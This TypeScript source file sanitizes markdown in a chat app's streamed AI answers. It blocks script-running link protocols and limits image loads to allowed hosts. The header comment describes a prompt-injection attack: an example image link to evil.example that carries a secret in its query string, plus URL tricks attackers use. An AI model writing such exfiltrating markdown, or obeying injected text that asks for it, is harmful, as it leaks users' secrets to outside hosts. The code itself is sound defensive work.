/** Markdown exfiltration (README, "Prompt injection"): what an answer may make the browser load or run.
 *
 * A prompt-injected answer that writes `![x](https://evil.example/?q=<secret>)` would leak the secret the moment
 * the image loads, with no click. Images therefore load only from this app's origin and the hosts the server
 * allows (`safety.image_hosts`, told in GET /users/me); links that would run script (`javascript:`, `vbscript:`,
 * `data:`) are not links. The server rewrites saved answers the same way (parley.safety.markdown); this covers
 * the answer while it streams in. URLs are read with the browser's own parser, so whatever tricks an answer
 * plays (case, padding, `https:evil.example`, backslashes) name the host the browser would fetch from. */

const SCRIPT_PROTOCOLS = new Set(["javascript:", "vbscript:", "data:"]);

function parse(url: string): URL | null {
  try {
    return new URL(url, window.location.href);
  } catch {
    return null;
  }
}

/** A link target that would run script, or that is not a URL at all. */
export function runsScript(href: string | undefined | null): boolean {
  if (!href) return true;
  const url = parse(href);
  return url === null || SCRIPT_PROTOCOLS.has(url.protocol);
}

/** Whether an image may load: from this app's origin or an allowed host (http or https only). `host` names
 * where it would have loaded from ("" when it has no host). */
export function imageSource(src: string | undefined | null, allowedHosts: readonly string[]): { allowed: boolean; host: string } {
  const url = src ? parse(src) : null;
  if (url === null) return { allowed: false, host: "" };
  const web = url.protocol === "https:" || url.protocol === "http:";
  const host = web ? url.hostname.toLowerCase() : "";
  if (url.origin === window.location.origin) return { allowed: true, host };
  return { allowed: web && allowedHosts.some((allowed) => allowed.toLowerCase() === host), host };
}
